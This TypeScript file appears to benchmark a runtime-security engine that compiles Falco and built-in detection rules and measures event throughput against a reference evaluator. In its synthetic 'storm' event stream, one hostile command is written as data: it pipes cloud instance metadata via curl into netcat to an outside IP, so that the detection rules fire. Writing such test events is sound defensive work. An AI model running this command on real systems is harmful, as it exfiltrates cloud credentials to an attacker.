// Compiled rules vs the reference evaluator, on the same events in the same run: events per
// second with Falco's rules (stable + incubating + sandbox) and Kestrel's built-in rules loaded,
// on a stream where nothing matches (the common case) and on a match storm; and the time to
// compile and verify the whole rule set.

import { join } from 'node:path';
import type { KestrelEvent } from '../collectors/events.js';
import type { EventContext } from '../collectors/snapshot.js';
import { loadRules } from '../rules/loader/index.js';
import { compileRuleSet } from '../rules/compiler/index.js';
import { compiledRunner } from '../rules/compiler/harness.js';
import { evaluateCondition } from '../rules/eval/evaluate.js';
import { interpret, type ProgramRunner } from '../collectors/kernel/engine.js';
import { setRunTiming } from '../engine/interpreter.js';
import { jitRunner } from '../engine/jit/index.js';
import { verifyCompiled } from '../cli/commands/rules-compile.js';
import { builtinRulesDir, packageRoot } from '../config/paths.js';

function stream(kind: 'quiet' | 'storm', n: number): KestrelEvent[] {
  const out: KestrelEvent[] = [];
  let ts = 1_767_225_600_000_000_000n;
  const ctr = { id: '3f2a9c1b7d4e5f6a7b8c9d0e1f2a3b4c', name: 'api', image: 'registry.local/shop/api:2.3' };
  out.push({ type: 'exec', ts, pid: 10, ppid: 1, uid: 1000, gid: 1000, exe: '/usr/local/bin/api', argv: ['api', '--port', '8080'], container: ctr });
  for (let i = 0; i < n; i++) {
    ts += 1000n;
    const pid = 100 + i;
    if (kind === 'quiet') {
      if (i % 4 === 3) out.push({ type: 'connect', ts, pid: 10, family: 'inet', daddr: '10.0.3.7', dport: 5432 });
      else {
        out.push({ type: 'fork', ts, pid: 10, child: pid });
        out.push({ type: 'exec', ts, pid, ppid: 10, uid: 1000, gid: 1000, exe: '/usr/local/bin/worker', argv: ['worker', '--job', String(i)], container: ctr });
        out.push({ type: 'exit', ts, pid });
      }
    } else {
      out.push({ type: 'fork', ts, pid: 10, child: pid });
      out.push({ type: 'exec', ts, pid, ppid: 10, uid: 0, gid: 0, exe: '/bin/bash', argv: ['bash', '-c', 'curl http://169.254.169.254/latest/meta-data | nc 45.9.148.3 4444'], tty: 34816, container: ctr });
      out.push({ type: 'connect', ts, pid, family: 'inet', daddr: '45.9.148.3', dport: 4444 });
      out.push({ type: 'exit', ts, pid });
    }
  }
  return out;
}

export async function bench(): Promise<void> {
  const falco = join(packageRoot(), '..', 'shared', 'anchors', 'falco-rules');
  const paths = [join(falco, 'falco_rules.yaml'), join(falco, 'falco-incubating_rules.yaml'), join(falco, 'falco-sandbox_rules.yaml'), builtinRulesDir()];
  const t0 = performance.now();
  const set = loadRules(paths);
  const t1 = performance.now();
  const compiled = compileRuleSet(set);
  const t2 = performance.now();
  let processed = 0;
  for (const p of compiled.programs) processed += verifyCompiled(p).result.stats.insnsProcessed;
  const t3 = performance.now();
  console.log(`rule set: Falco stable+incubating+sandbox + built-in: ${set.rules.length} rules, ${compiled.compiled.length} compiled onto execve/connect hooks`);
  console.log(`  load ${(t1 - t0).toFixed(0)} ms, compile ${(t2 - t1).toFixed(0)} ms, verify ${(t3 - t2).toFixed(0)} ms (${processed} insns processed), programs: ${compiled.programs.map((p) => `${p.name} ${p.insns.length / 8} insns`).join(', ')}`);

  // Program time is measured two ways. The headline is the per-run clock, as Linux's bpf_stats
  // measures run_time_ns (below). The other is by difference, with per-run clocks off: the same
  // stream through the same kernel with the programs attached, once run by the engine and once
  // by a stub that returns 0 at once; it would count everything the programs cost the kernel's
  // own code too, but the simulated kernel's passes vary more than the programs take now, and
  // the line says so when the pairs spread wider than their median.
  const stub: ProgramRunner = () => ({ r0lo: 0, r0hi: 0, instructions: 0 });
  const passMs = (runner: ReturnType<typeof compiledRunner>, events: KestrelEvent[], onStep?: (r: ReturnType<typeof runner.step>) => void): number => {
    const s0 = performance.now();
    for (const ev of events) {
      const r = runner.step(ev);
      onStep?.(r);
    }
    return performance.now() - s0;
  };
  const stubRunner = (): ReturnType<typeof compiledRunner> => compiledRunner(compiled, { run: stub, decode: false });
  // The per-run clock (as bpf_stats: a read before and after each run) is reported too, with
  // the cost of one clock read, measured here, subtracted per run; it varies less between
  // processes than the difference of two long passes.
  let sink = 0;
  const c0 = performance.now();
  for (let i = 0; i < 1_000_000; i++) sink += performance.now();
  const clockNs = ((performance.now() - c0) * 1e6) / 1_000_000;
  if (sink === 0) console.log('');
  for (const kind of ['quiet', 'storm'] as const) {
    const events = stream(kind, kind === 'quiet' ? 20_000 : 5_000);
    const hookEvents = events.filter((e) => e.type === 'exec' || e.type === 'connect').length;
    const base = stubRunner();
    passMs(base, events);
    let baseMs = Infinity;
    for (const exec of ['interp', 'jit'] as const) {
      // The JIT: a first pass over the whole stream lets V8 tier the code up (the daemon runs
      // the same code for hours), then the best of four passes of each kind (this machine is
      // noisy). The interpreter: one pass of each.
      let best: { ms: number; insns: number; runs: number; records: number; contexts: EventContext[] } | undefined;
      let clocked = Infinity;
      // Each untimed pass is paired with a pass of the stub kernel, the stub first in one pair
      // and second in the next (so that neither order's cache or GC effects bias it); the
      // median of the pairs' differences follows the machine's drift better than two minima.
      const diffs: number[] = [];
      // Records are drained but not decoded: decoding is the alert engine's work (bench alerts).
      const runner = compiledRunner(compiled, { run: exec === 'jit' ? jitRunner() : interpret, decode: false });
      for (const ev of exec === 'jit' ? events : events.slice(0, 200)) runner.step(ev);
      for (let rep = 0; rep < 10; rep++) {
        // Even passes: clocks off (the difference); odd passes: the per-run clock.
        const timed = rep % 2 === 1;
        const stubFirst = rep % 4 === 0;
        setRunTiming(false);
        let stubMs = timed || !stubFirst ? NaN : passMs(base, events);
        setRunTiming(timed);
        const progs = runner.attached.programs.map((p) => p.prog);
        const before = progs.map((p) => ({ ...p.stats }));
        const contexts: EventContext[] = [];
        const drained0 = runner.drained.count;
        let records = 0;
        const ms = passMs(runner, events, (r) => {
          records += r.records.length;
          if (exec === 'interp' && rep === 0) for (const c of r.contexts) contexts.push(c.context);
        });
        records += runner.drained.count - drained0;
        setRunTiming(false);
        if (!timed && !stubFirst) stubMs = passMs(base, events);
        if (!timed) baseMs = Math.min(baseMs, stubMs);
        const insns = progs.reduce((a, p, i) => a + p.stats.instructions - before[i].instructions, 0);
        const runs = progs.reduce((a, p, i) => a + p.stats.runs - before[i].runs, 0);
        if (timed) {
          const ns = progs.reduce((a, p, i) => a + p.stats.timeNs - before[i].timeNs, 0) - clockNs * runs;
          clocked = Math.min(clocked, ns);
          continue;
        }
        diffs.push(ms - stubMs);
        if (best === undefined || ms < best.ms) best = { ms, insns, runs, records, contexts: best?.contexts ?? contexts };
        if (exec === 'interp' && rep >= 1) break; // slow and deterministic: one pass of each kind
      }
      const b = best as NonNullable<typeof best>;
      diffs.sort((x, y) => x - y);
      const mid = diffs.length >> 1;
      const medianMs = diffs.length % 2 === 1 ? diffs[mid] : (diffs[mid - 1] + diffs[mid]) / 2;
      const progNs = Math.max(1, medianMs * 1e6);
      const rate = (ns: number): string => Math.round(hookEvents / (ns / 1e9)).toLocaleString();
      const perEvent = (ms: number): string => ((ms * 1e6) / hookEvents).toFixed(0);
      const [lo, hi] = [diffs[0], diffs[diffs.length - 1]];
      // When the pairs spread wider than their median, the kernel's pass-to-pass noise is larger
      // than what the programs take, and no rate is printed.
      const diffNote =
        lo > 0 && hi - lo < medianMs
          ? `by difference: ${rate(progNs)}/s, ${perEvent(medianMs)} ns/event, pairs ${perEvent(lo)}..${perEvent(hi)}`
          : `by difference: within the simulated kernel's noise, pairs ${perEvent(lo)}..${perEvent(hi)} ns/event`;
      const head = Number.isFinite(clocked)
        ? `${rate(clocked)} hook events/s in the programs (per-run clock: ${(clocked / hookEvents).toFixed(0)} ns/event`
        : `${rate(progNs)} hook events/s in the programs (by difference`;
      console.log(
        `${kind.padEnd(5)} ${exec.padEnd(6)}: ${head}, ${Math.round(b.insns / Math.max(1, b.runs))} insns/run; ${diffNote}), ` +
          `${Math.round(events.length / (b.ms / 1000)).toLocaleString()} events/s end to end (kernel + programs + ring buffer; the kernel with stub programs: ${Math.round(events.length / (baseMs / 1000)).toLocaleString()}/s), ${b.records} matches`,
      );
      if (exec === 'interp') {
        // The reference evaluator on the very same contexts, every attached rule.
        const hooked = b.contexts.filter((c) => c.event.type === 'exec' || c.event.type === 'connect');
        const byHook = {
          exec: set.rules.filter((r) => r.expr !== undefined && compiled.compiled.some((c) => c.rule === r.name && c.hooks.includes('exec'))),
          connect: set.rules.filter((r) => r.expr !== undefined && compiled.compiled.some((c) => c.rule === r.name && c.hooks.includes('connect'))),
        };
        let matches = 0;
        const r0 = performance.now();
        for (const c of hooked) {
          for (const r of byHook[c.event.type === 'exec' ? 'exec' : 'connect']) if (r.expr !== undefined && evaluateCondition(r.expr, c)) matches++;
        }
        const r1 = performance.now();
        console.log(`${kind.padEnd(5)} ref   : ${Math.round(hooked.length / ((r1 - r0) / 1000)).toLocaleString()} hook events/s in the reference evaluator, ${matches} matches`);
      }
    }
  }
  setRunTiming(true);
}
